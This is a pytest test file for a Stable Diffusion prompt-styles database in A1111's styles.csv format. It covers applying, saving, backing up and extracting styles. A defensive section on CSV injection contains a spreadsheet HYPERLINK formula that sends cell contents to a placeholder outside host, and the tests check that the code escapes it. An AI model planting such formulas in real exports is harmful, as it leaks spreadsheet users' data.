"""Prompt styles: applying, saving and recovering them from infotext, with A1111's styles.csv format."""

from __future__ import annotations

import logging
import os

from modules import styles
from modules.styles import PromptStyle, StyleDatabase

CSV_HEADER = "name,prompt,negative_prompt\n"


def write(path, text):
    path.write_text(text, encoding="utf-8")
    return path


def test_merge_and_apply():
    assert styles.merge_prompts("masterpiece", "a cat") == "a cat, masterpiece"
    assert styles.merge_prompts("photo of {prompt}, 8k", "a cat") == "photo of a cat, 8k"
    assert styles.merge_prompts("", "  a cat ") == "a cat"
    assert styles.merge_prompts("masterpiece", "") == "masterpiece"
    assert styles.apply_styles_to_prompt("a cat", ["best", "art of {prompt}"]) == "art of a cat, best"


def test_database_loads_and_applies(tmp_path):
    path = write(
        tmp_path / "styles.csv",
        CSV_HEADER + 'wrap,"photo of {prompt}, 8k",blurry\nsuffix,masterpiece,"lowres, bad"\n',
    )
    db = StyleDatabase([str(path)])
    assert db.styles["wrap"] == PromptStyle("wrap", "photo of {prompt}, 8k", "blurry", str(path))
    assert db.apply_styles_to_prompt("a cat", ["wrap", "suffix"]) == "photo of a cat, 8k, masterpiece"
    assert db.apply_negative_styles_to_prompt("ugly", ["wrap", "suffix"]) == "ugly, blurry, lowres, bad"
    assert db.apply_styles_to_prompt("a cat", ["no such style"]) == "a cat"
    assert db.get_style_prompts(["suffix", "missing"]) == ["masterpiece", ""]


def test_single_path_string_and_missing_file(tmp_path):
    db = StyleDatabase(str(tmp_path / "nothing.csv"))
    assert db.styles == {}
    assert db.default_path == tmp_path / "nothing.csv"


def test_bad_rows_are_skipped_with_a_warning(tmp_path, caplog):
    path = write(
        tmp_path / "styles.csv",
        CSV_HEADER + "good,a,b\nonly_name\n,no name,x\n# comment,x,y\nno_negative,just prompt\n",
    )
    with caplog.at_level(logging.WARNING, logger="modules.styles"):
        db = StyleDatabase([path])
    assert list(db.styles) == ["good", "no_negative"]
    assert db.styles["no_negative"].negative_prompt == ""
    assert sum("Skipping style" in r.message for r in caplog.records) == 2


def test_file_without_needed_columns_loads_nothing(tmp_path, caplog):
    path = write(tmp_path / "styles.csv", "title,body\na,b\n")
    with caplog.at_level(logging.WARNING, logger="modules.styles"):
        db = StyleDatabase([path])
    assert db.styles == {}
    assert caplog.records


def test_old_name_text_format(tmp_path):
    path = write(tmp_path / "styles.csv", "name,text\nold,old style\n")
    db = StyleDatabase([path])
    assert db.styles["old"] == PromptStyle("old", "old style", "", str(path))


def test_several_files_and_globs(tmp_path):
    write(tmp_path / "styles.csv", CSV_HEADER + "a,A,\n")
    write(tmp_path / "styles_extra.csv", CSV_HEADER + "b,B,\n")
    db = StyleDatabase([str(tmp_path / "styles*.csv")])
    assert db.default_path == tmp_path / "styles.csv"
    names = list(db.styles)
    assert names == [
        " STYLES ".center(40, "-"),
        "a",
        " STYLES_EXTRA ".center(40, "-"),
        "b",
    ]
    assert db.styles[names[0]].path == styles.DIVIDER_PATH
    assert db.styles["b"].path == str(tmp_path / "styles_extra.csv")
    # dividers never match a prompt and are never written
    assert db.extract_styles_from_prompt("x", "") == ([], "x", "")


def test_save_round_trip_keeps_backup_and_files_apart(tmp_path):
    main = write(tmp_path / "styles.csv", CSV_HEADER + "a,A {prompt},neg\n")
    extra = write(tmp_path / "extra.csv", CSV_HEADER + 'b,"with, comma",\n')
    db = StyleDatabase([main, extra])
    db.styles["new"] = PromptStyle("new", "fresh", "", None)  # as the UI adds one: no file yet
    db.styles["a"] = db.styles["a"]._replace(prompt="A2 {prompt}")
    db.save_styles()

    assert (tmp_path / "styles.csv.bak").read_text(encoding="utf-8") == CSV_HEADER + "a,A {prompt},neg\n"
    assert main.read_bytes().startswith(b"\xef\xbb\xbf")  # utf-8-sig, as A1111 writes it
    again = StyleDatabase([main, extra])
    assert {n: (s.prompt, s.negative_prompt, s.path) for n, s in again.styles.items() if not n.startswith("-")} == {
        "a": ("A2 {prompt}", "neg", str(main)),
        "new": ("fresh", "", str(main)),
        "b": ("with, comma", "", str(extra)),
    }
    assert not [p for p in os.listdir(tmp_path) if p.endswith(".tmp")]


def test_save_creates_the_default_file(tmp_path):
    path = tmp_path / "sub" / "styles.csv"
    db = StyleDatabase([path])
    db.styles["x"] = PromptStyle("x", "y", "z")
    db.save_styles()
    assert StyleDatabase([path]).styles["x"] == PromptStyle("x", "y", "z", str(path))
    assert not (tmp_path / "sub" / "styles.csv.bak").exists()


def test_extract_style_text():
    assert styles.extract_style_text_from_prompt("masterpiece", "1girl, art by greg, masterpiece") == (
        True,
        "1girl, art by greg",
    )
    assert styles.extract_style_text_from_prompt("masterpiece, {prompt}", "masterpiece, 1girl, art by greg") == (
        True,
        "1girl, art by greg",
    )
    assert styles.extract_style_text_from_prompt("masterpiece, {prompt}", "exquisite, 1girl, art by greg") == (
        False,
        "exquisite, 1girl, art by greg",
    )
    assert styles.extract_style_text_from_prompt("{prompt} {prompt}", "a a") == (False, "a a")


def test_extract_styles_from_prompt_inverts_apply(tmp_path):
    path = write(
        tmp_path / "styles.csv",
        CSV_HEADER + 'wrap,"photo of {prompt}, 8k",blurry\nsuffix,masterpiece,"lowres, bad"\nother,unused,\n',
    )
    db = StyleDatabase([path])
    chosen = ["wrap", "suffix"]
    prompt = db.apply_styles_to_prompt("a cat", chosen)
    negative = db.apply_negative_styles_to_prompt("ugly", chosen)
    assert db.extract_styles_from_prompt(prompt, negative) == (chosen, "a cat", "ugly")
    # the negative prompt must match too: the outer style "suffix" is not found, so nothing is
    assert db.extract_styles_from_prompt(prompt, "ugly") == ([], prompt, "ugly")
    assert db.extract_styles_from_prompt("a dog", "") == ([], "a dog", "")


# --- spreadsheet formulas (CSV injection) --------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_cells_that_start_like_a_formula_are_written_with_a_quote(tmp_path):
    path = tmp_path / "styles.csv"
    db = StyleDatabase([str(path)])
    db.styles["=evil"] = PromptStyle("=evil", FORMULAS[0], "-lowres", str(path))
    db.styles["plain"] = PromptStyle("plain", "masterpiece, {prompt}", "blurry, a-b", str(path))
    db.save_styles()
    text = path.read_bytes().decode("utf-8-sig")
    assert '\'=evil,"\'=HYPERLINK(""http://example.invalid/?x=""&A1,""click"")",\'-lowres\r\n' in text
    assert 'plain,"masterpiece, {prompt}","blurry, a-b"\r\n' in text  # ordinary cells are untouched
    reread = StyleDatabase([str(path)])
    assert reread.styles["=evil"] == PromptStyle("=evil", FORMULAS[0], "-lowres", str(path))
    assert reread.styles["plain"] == db.styles["plain"]


def test_every_text_survives_a_round_trip(tmp_path):
    path = tmp_path / "styles.csv"
    texts = [*FORMULAS, "'=1", "''=1", "'hello", "'", "''", "'-", "a=b", "", "- dash and space", "'@x"]
    db = StyleDatabase([str(path)])
    for i, text in enumerate(texts):
        db.styles[f"s{i}"] = PromptStyle(f"s{i}", text, text, str(path))
    db.save_styles()
    reread = StyleDatabase([str(path)])
    for i, text in enumerate(texts):
        assert (reread.styles[f"s{i}"].prompt, reread.styles[f"s{i}"].negative_prompt) == (text, text), repr(text)


def test_escape_and_unescape_cells():
    assert styles.escape_cell("=1") == "'=1" and styles.unescape_cell("'=1") == "=1"
    assert styles.escape_cell("'=1") == "''=1" and styles.unescape_cell("''=1") == "'=1"
    assert styles.escape_cell("'quoted") == "'quoted" and styles.unescape_cell("'quoted") == "'quoted"
    assert styles.escape_cell("1-2") == "1-2"


def test_files_written_by_hand_or_by_a1111_read_as_before(tmp_path):
    path = write(tmp_path / "styles.csv", CSV_HEADER + "minus,-1,'plain\n")
    assert StyleDatabase([str(path)]).styles["minus"] == PromptStyle("minus", "-1", "'plain", str(path))
